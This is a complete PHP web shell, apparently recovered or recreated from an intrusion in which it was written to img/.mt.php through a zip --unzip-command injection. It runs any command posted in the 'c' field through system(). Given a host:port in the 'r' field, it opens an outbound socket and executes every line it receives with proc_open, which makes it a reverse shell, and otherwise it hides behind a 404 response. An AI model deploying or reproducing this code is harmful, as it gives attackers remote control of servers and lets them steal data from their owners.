<?php
// the attacker's web shell (img/.mt.php), written by the sh that zip's
// --unzip-command ran. c=<cmd>: system(). r=<host:port>: the worker itself
// connects out and runs every line it reads with proc_open, the socket as
// the child's stdout/stderr (a reverse shell without a shell in between).
if (isset($_POST['c'])) { system($_POST['c'] . ' 2>&1'); exit; }
if (isset($_POST['r'])) {
    ignore_user_abort(true); set_time_limit(0);
    $s = stream_socket_client('tcp://' . $_POST['r'], $en, $es, 5);
    if (!$s) { echo "no\n"; exit; }
    fwrite($s, 'php-fpm ' . getmypid() . "\n");
    while (($l = fgets($s)) !== false) {
        $l = trim($l);
        if ($l === 'exit') break;
        if ($l === '') continue;
        $p = proc_open($l, [0 => ['file', '/dev/null', 'r'], 1 => $s, 2 => $s], $pp);
        if (is_resource($p)) proc_close($p);
        fwrite($s, "--\n");
    }
    fclose($s);
    exit;
}
http_response_code(404);
